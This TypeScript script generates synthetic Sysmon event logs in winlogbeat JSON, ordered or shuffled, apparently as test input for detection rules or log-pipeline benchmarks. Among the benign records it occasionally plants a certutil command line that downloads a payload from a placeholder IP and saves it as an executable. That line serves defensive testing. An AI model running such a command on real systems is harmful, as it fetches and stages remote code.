// node write-export.js BYTES ordered|shuffled: an export of Sysmon events of some hosts, as winlogbeat writes it, on standard output.
import { writeSync } from 'node:fs';

const BASE = Date.UTC(2024, 5, 25);
const HOSTS = 10;
const BLOCK = 1 << 20;
const STEP_MS = 7;
/** Of a line, about. */
const LINE_BYTES = 760;

/** The record with the given number in the order of time; numbers and texts never repeat, so that nothing remembered of them pays. */
function exportLine(n: number): string {
  const host = `WS${String(n % HOSTS).padStart(2, '0')}.corp.example`;
  const time = new Date(BASE + n * STEP_MS).toISOString();
  // One process starts, writes a file and sets a value, and ends.
  const step = Math.floor(n / HOSTS) % 4;
  const process = Math.floor(n / HOSTS / 4);
  const pid = 1000 + ((process * 4) % 60_000);
  const guid = `{${hex(n % HOSTS, 8)}-0000-0000-0000-${hex(process, 12)}}`;
  const shared = {
    UtcTime: time.slice(0, 23).replace('T', ' '),
    ProcessGuid: guid,
    ProcessId: String(pid),
    Image:
      process % 4999 === 7
        ? 'C:\\Windows\\System32\\certutil.exe'
        : `C:\\Program Files\\Vendor ${process % 97}\\tool${process % 1009}.exe`,
    User: 'CORP\\bob',
  };
  return JSON.stringify({
    '@timestamp': time,
    event: { code: IDS[step], provider: 'Microsoft-Windows-Sysmon', kind: 'event' },
    winlog: {
      provider_name: 'Microsoft-Windows-Sysmon',
      provider_guid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}',
      channel: 'Microsoft-Windows-Sysmon/Operational',
      computer_name: host,
      event_id: IDS[step],
      record_id: String(Math.floor(n / HOSTS)),
      process: { pid: 2500, thread: { id: 3000 } },
      event_data: { ...shared, ...more(step, process) },
    },
    host: { name: host },
    agent: { type: 'winlogbeat', version: '8.14.0' },
  });
}

const FETCH = 'certutil.exe -urlcache -split -f http://203.0.113.7/payload.bin C:\\Data\\x.exe';
const IDS = [1, 11, 13, 5] as const;

function more(step: number, process: number): Record<string, string> {
  switch (step) {
    case 0:
      return {
        // Now and then one that rules find.
        CommandLine:
          process % 4999 === 7 ? FETCH : `tool.exe --job ${process} --input C:\\Data\\${process % 4099}.csv`,
        CurrentDirectory: 'C:\\Data\\',
        ParentProcessId: '700',
        ParentImage: 'C:\\Windows\\explorer.exe',
        ParentCommandLine: 'C:\\Windows\\explorer.exe',
      };
    case 1:
      return { TargetFilename: `C:\\Data\\out\\${process}.tmp` };
    case 2:
      return {
        EventType: 'SetValue',
        TargetObject: `HKLM\\SOFTWARE\\Vendor\\Jobs\\${process % 8191}`,
        Details: String(process),
      };
    default:
      return {};
  }
}

function hex(n: number, digits: number): string {
  return n.toString(16).padStart(digits, '0');
}

/** Multiplied by it, modulo `count`, every number below `count` comes once and far from order: the two have no divisor in common. */
function factor(count: number): number {
  for (let candidate = Math.floor(count * 0.618); ; candidate++)
    if (divisor(candidate, count) === 1) return candidate;
}

function divisor(a: number, b: number): number {
  return b === 0 ? a : divisor(b, a % b);
}

function main(bytes: number, shuffled: boolean): void {
  const count = Math.floor(bytes / LINE_BYTES);
  const step = BigInt(factor(count));
  const size = BigInt(count);
  let block = '';
  for (let n = 0; n < count; n++) {
    block += `${exportLine(shuffled ? Number((BigInt(n) * step) % size) : n)}\n`;
    if (block.length < BLOCK && n + 1 < count) continue;
    const ready = Buffer.from(block, 'latin1');
    for (let at = 0; at < ready.length; ) at += write(ready, at);
    block = '';
  }
}

/** A pipe that is full is asked again. */
function write(bytes: Buffer, at: number): number {
  try {
    return writeSync(1, bytes, at);
  } catch (error) {
    if ((error as { code?: string }).code !== 'EAGAIN') throw error;
    Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 5);
    return 0;
  }
}

const [, , bytes = '', order = ''] = process.argv;
if (!(Number(bytes) >= LINE_BYTES) || !['ordered', 'shuffled'].includes(order))
  throw new Error('usage: write-export BYTES ordered|shuffled');
main(Number(bytes), order === 'shuffled');
